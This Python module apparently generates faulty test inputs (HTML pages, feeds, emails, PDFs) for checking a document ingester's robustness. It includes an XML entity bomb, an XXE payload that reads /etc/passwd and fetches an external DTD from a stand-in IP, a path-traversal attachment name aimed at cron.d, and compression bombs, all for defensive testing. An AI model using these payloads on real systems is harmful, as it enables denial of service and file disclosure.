"""Faults of web pages, mails, feeds and PDF files."""

from __future__ import annotations

import random
import zlib
from collections.abc import Iterator
from email.message import EmailMessage

from evaluation.faulty import What, fault, story

LAUGHS = "".join(
    [
        '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY a0 "ha ">\n',
        *(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">\n' for i in range(1, 10)),
        "]>\n",
    ]
)
"""A document type whose entity a9 expands to a thousand million words."""
OUTSIDE = (
    '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY a9 SYSTEM "file:///etc/passwd">'
    '<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>\n'
)


def page(body: str, head: str = "<title>Blast</title>") -> bytes:
    """An HTML page."""
    return f"<!doctype html><html><head>{head}</head><body>{body}</body></html>".encode()


@fault("pages nested deeply")
def nested(rng: random.Random) -> Iterator[tuple[str, What]]:
    text = story(rng)
    for i, tag in enumerate(("div", "span", "table><tr><td", "ul><li", "blockquote", "b", "font")):
        yield f"nested-{i}.html", page(f"<{tag}>" * 20_000 + f"<p>{text}</p>")
    yield "nested-comments.html", page("<!--" * 50_000 + f"<p>{text}</p>")


@fault("tags that are broken")
def tags(rng: random.Random) -> Iterator[tuple[str, What]]:
    text = story(rng)
    yield "unclosed.html", page("<p>" + text.replace(" ", " <b>", 900))
    yield "half.html", page(f"<p>{text}</p>")[: -len(text) // 2]
    yield "crossed.html", page(f"<b><i><p>{text}</b></i><td></p></table></div></html>{text}")
    yield "marks.html", page("<" * 100_000 + text)
    yield "ampersands.html", page("&" * 100_000 + "&#0;&#xD800;&#x110000;&#99999999999;" + text)
    yield "attributes.html", page("<p " + "a=b " * 200_000 + f">{text}</p>")
    yield "attribute.html", page(f'<p title="{"x" * 5_000_000}">{text}</p>')
    yield "two-pages.html", page(f"<p>{text}</p>") * 2


@fault("pages without text")
def bare(rng: random.Random) -> Iterator[tuple[str, What]]:
    yield "script.html", page("<script>" + "var x = 1;\n" * 20_000 + "</script>")
    yield "frames.html", b"<html><frameset><frame src='a.html'></frameset></html>"
    yield "pictures.html", page("<img src='a.png'>" * 5000)
    yield "menu.html", page("".join(f"<a href='/{i}'>Item {i}</a>" for i in range(3000)))
    yield "data.html", page(f"<img src='data:image/png;base64,{'QUJD' * 1_000_000}'>")


@fault("pages that lie about themselves")
def liars(rng: random.Random) -> Iterator[tuple[str, What]]:
    text = story(rng)
    for i, name in enumerate(("utf-7", "utf-16", "klingon", "base64", "rot13", "zlib", "idna")):
        yield (
            f"charset-{i}.html",
            page(f"<p>{text}</p>", f"<meta charset='{name}'><title>B</title>"),
        )
    for i, data in enumerate(
        ("{", "[" * 50_000, '{"@type": "NewsArticle", "headline": {"a": [1]}}', '"\\ud800"', "null")
    ):
        head = f"<script type='application/ld+json'>{data}</script><title>Blast</title>"
        yield f"data-{i}.html", page(f"<p>{text}</p>", head)
    odd = '{"@type":"NewsArticle","headline":"\\ud800 blast","datePublished":"2031-13-45"}'
    head = f"<script type='application/ld+json'>{odd}</script>"
    yield "half-a-character.html", page(f"<p>{text}</p>", head)


@fault("tables that swell")
def tables(rng: random.Random) -> Iterator[tuple[str, What]]:
    cell = f"<td colspan=1000000000 rowspan=1000000000>{story(rng)}</td>"
    yield "spans.html", page(f"<table><tr>{cell}</tr></table>")
    yield "cells.html", page("<table>" + "<tr><td>a b</td></tr>" * 60_000 + "</table>")
    yield "within.html", page("<table><tr><td>" * 3000 + story(rng))


@fault("XML entities that swell or reach out")
def entities(rng: random.Random) -> Iterator[tuple[str, What]]:
    text = f"<p>&a9;</p><p>{story(rng)}</p>"
    for how, head in (("laughs", LAUGHS), ("outside", OUTSIDE)):
        yield f"{how}.xhtml", f"{head}<html><body>{text}</body></html>".encode()
        yield f"{how}.html", f"{head}<html><body>{text}</body></html>".encode()
        rss = f"<rss version='2.0'><channel><item><title>&a9;</title>{text}</item></channel></rss>"
        yield f"{how}.rss", (head + rss).encode()
        yield f"{how}.xml", (head + rss).encode()
        atom = f"<feed xmlns='http://www.w3.org/2005/Atom'><entry>{text}</entry></feed>"
        yield f"{how}.atom", (head + atom).encode()


@fault("feeds that are broken")
def feeds(rng: random.Random) -> Iterator[tuple[str, What]]:
    item = f"<item><title>Blast</title><description>{story(rng)}</description></item>"
    yield "half.rss", f"<?xml version='1.0'?><rss><channel>{item}".encode()
    yield "none.rss", b"<?xml version='1.0'?><rss><channel></channel></rss>"
    yield "deep.rss", b"<rss>" + b"<a>" * 100_000
    yield "not.atom", story(rng).encode()


# ------------------------------------------------------------------------------------------ mails
def mail(body: str, **headers: str) -> EmailMessage:
    """A mail from a news desk."""
    message = EmailMessage()
    message["From"] = "Tarsin Radio <desk@radio.example>"
    message["Date"] = "Mon, 05 May 2031 18:00:00 +0200"
    message["Subject"] = headers.get("subject", "Blast")
    message.set_content(body)
    return message


@fault("mails that are broken")
def mails(rng: random.Random) -> Iterator[tuple[str, What]]:
    text = story(rng)
    sound = mail(text).as_bytes()
    yield "no-headers.eml", text.encode()
    yield "half.eml", sound[: len(sound) // 2]
    yield "charset.eml", sound.replace(b"utf-8", b"klingon").replace(b"us-ascii", b"utf-99")
    yield "date.eml", sound.replace(b"05 May 2031", b"99 Foo 99999")
    yield "base64.eml", sound.replace(b"8bit", b"base64").replace(b"7bit", b"base64")
    yield "header.eml", b"Subject: " + b"x" * 3_000_000 + b"\n" + sound
    yield "headers.eml", b"".join(b"X-%d: y\n" % i for i in range(50_000)) + sound
    yield "encoded.eml", b"Subject: " + b"=?utf-8?b?7aCA?= " * 3000 + b"\n" + sound
    yield (
        "boundary.eml",
        (
            b"From: a@b.example\nContent-Type: multipart/mixed; boundary=x\n\n--y\n\n"
            + text.encode()
        ),
    )


@fault("mails nested deeply")
def mails_in_mails(rng: random.Random) -> Iterator[tuple[str, What]]:
    for depth in (3, 40):
        message = mail(story(rng))
        for _ in range(depth):
            outer = mail("See below.")
            outer.add_attachment(message)
            message = outer
        yield f"forwarded-{depth}.eml", message.as_bytes()
    parts = b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (i, i) for i in range(3000)
    )
    yield "parts.eml", b"From: a@b.example\n" + parts + b"\n" + story(rng).encode()


@fault("mails whose attachments are bad")
def attachments(rng: random.Random) -> Iterator[tuple[str, What]]:
    for name, data in (
        ("../../etc/cron.d/x.txt", story(rng).encode()),
        ("a\x00b.txt", story(rng).encode()),
        ("noise.pdf", rng.randbytes(500)),
        ("empty.docx", b""),
        ("x" * 3000 + ".txt", story(rng).encode()),
    ):
        message = mail(story(rng))
        message.add_attachment(
            data, maintype="application", subtype="octet-stream", filename=name.replace("\x00", "")
        )
        yield f"attached-{len(name)}.eml", message.as_bytes()


# -------------------------------------------------------------------------------------------- PDF
def pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF of these objects, numbered from 1, with a cross-reference table."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\n" % (len(places) + 1, root)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), extra, data)


def one_page(content: bytes) -> list[bytes]:
    """The objects of a document with one page, whose content is object 4."""
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        content,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]


def text_page(text: str) -> bytes:
    """A PDF that shows the lines of a text."""
    lines = [line[at : at + 90] for line in text.splitlines() for at in range(0, len(line), 90)]
    shown = b"\n".join(
        b"(%s) Tj T*" % line.encode("cp1252", "replace").replace(b"(", b"").replace(b")", b"")
        for line in lines
    )
    return pdf(one_page(stream(b"BT /F1 11 Tf 13 TL 40 760 Td\n" + shown + b"\nET")))


@fault("PDF files that are broken")
def broken_pdf(rng: random.Random) -> Iterator[tuple[str, What]]:
    sound = text_page(story(rng))
    for i, share in enumerate((0.02, 0.3, 0.6, 0.9, 0.99)):
        yield f"cut-{i}.pdf", sound[: int(len(sound) * share)]
    yield "head.pdf", b"%PDF-1.7\n"
    yield "no-table.pdf", sound[: sound.index(b"xref")]
    yield "after-noise.pdf", rng.randbytes(600) + sound
    yield "no-root.pdf", sound.replace(b"/Root 1 0 R", b"/Root 9 0 R")


@fault("PDF files that refer to themselves")
def circles(rng: random.Random) -> Iterator[tuple[str, What]]:
    good = one_page(stream(b"BT /F1 11 Tf 40 700 Td (Blast in Dravik) Tj ET"))
    kids = [*good]
    kids[1] = b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"
    yield "pages.pdf", pdf(kids)
    counted = [*good]
    counted[1] = b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>"
    yield "count.pdf", pdf(counted)
    content = [*good]
    content[2] = content[2].replace(b"4 0 R", b"[" + b"4 0 R " * 200_000 + b"]", 1)
    yield "contents.pdf", pdf(content)
    form = [*good]
    form[3] = stream(b"/X Do " * 50, b"/Type /XObject /Subtype /Form /Resources"
                     b" << /XObject << /X 4 0 R >> >> /BBox [0 0 9 9]")  # fmt: skip
    yield "form.pdf", pdf(form)
    yield "root.pdf", pdf(good, root=4)
    yield "deep.pdf", pdf([b"[" * 100_000 + b"]" * 100_000, *good])


@fault("PDF files that swell")
def pdf_bombs(rng: random.Random) -> Iterator[tuple[str, What]]:
    zeros = zlib.compress(b" " * 200_000_000, 9)
    yield "flate.pdf", pdf(one_page(stream(zeros, b"/Filter /FlateDecode")))
    twice = zlib.compress(zeros, 9)
    yield "flate-flate.pdf", pdf(one_page(stream(twice, b"/Filter [/FlateDecode /FlateDecode]")))
    shown = zlib.compress(b"BT /F1 1 Tf " + b"(Blast in Dravik) Tj " * 2_000_000 + b" ET", 9)
    yield "text.pdf", pdf(one_page(stream(shown, b"/Filter /FlateDecode")))
    wide = b"/Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB"
    yield (
        "picture.pdf",
        pdf(one_page(stream(zlib.compress(bytes(9)), wide + b"/Filter/FlateDecode"))),
    )


@fault("PDF files without text, or locked")
def mute_pdf(rng: random.Random) -> Iterator[tuple[str, What]]:
    yield "drawing.pdf", pdf(one_page(stream(b"0 0 m 100 100 l S")))
    pages = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
    yield "no-pages.pdf", pdf(pages)
    locked = text_page(story(rng)).replace(
        b"/Root 1 0 R",
        b"/Root 1 0 R /ID [<00><00>] /Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -4"
        b" /O <" + b"41" * 32 + b"> /U <" + b"42" * 32 + b"> >>",
    )
    yield "locked.pdf", locked
